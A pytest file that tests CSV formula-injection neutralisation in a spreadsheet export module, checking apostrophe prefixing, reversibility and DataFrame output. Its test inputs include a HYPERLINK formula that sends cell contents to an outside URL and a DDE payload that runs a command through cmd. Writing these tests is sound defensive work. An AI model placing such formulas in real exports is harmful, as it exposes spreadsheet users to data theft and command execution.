"""Texts of a CSV file are no formulas, numbers stay numbers, and the apostrophe can be undone."""

import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cutplane.spreadsheet import csv_text, neutral, original


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://x.org?"&A1,"ok")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
        "-",
        "=",
        "-inf",
        "＝1",
        "'=1",
    ],
)
def test_formulas_become_text(formula):
    assert neutral(formula) == f"'{formula}"


@pytest.mark.parametrize("cell", ["-1.5", "+3", "-.5e-7", "a=b", "'quoted'", "", "x-1", -1.5, True])
def test_other_cells_stay(cell):
    assert neutral(cell) is cell


@given(st.text(alphabet="'=+-@\t\r1.ae"))
def test_the_apostrophe_can_be_undone(text):
    assert original(neutral(text)) == text


def test_every_text_of_a_table_is_written_as_text():
    bad = "=1+1"
    frame = pd.DataFrame(
        {
            bad: [-1.5, 2.0],
            "object": [bad, 3],
            "string": pd.array([bad, None], dtype="string"),
            "category": pd.Categorical([bad, "b"]),
            "plain": ["-7", "b"],
        }
    )
    before = frame.copy(deep=True)
    text = csv_text(pd.concat([frame, frame], axis=1))  # equal names, too
    assert text.splitlines()[1] == ",".join(["-1.5,'=1+1,'=1+1,'=1+1,-7"] * 2)
    assert text.splitlines()[0].startswith("'=1+1,object")
    pd.testing.assert_frame_equal(frame, before)


def test_digits_of_numbers_can_be_limited():
    frame = pd.DataFrame({"p": [1 / 3], "row": [1234567]})
    assert csv_text(frame, float_format="%.6g") == "p,row\n0.333333,1234567\n"
    again = pd.read_csv(io.StringIO(csv_text(frame)))
    assert again["p"][0] == 1 / 3
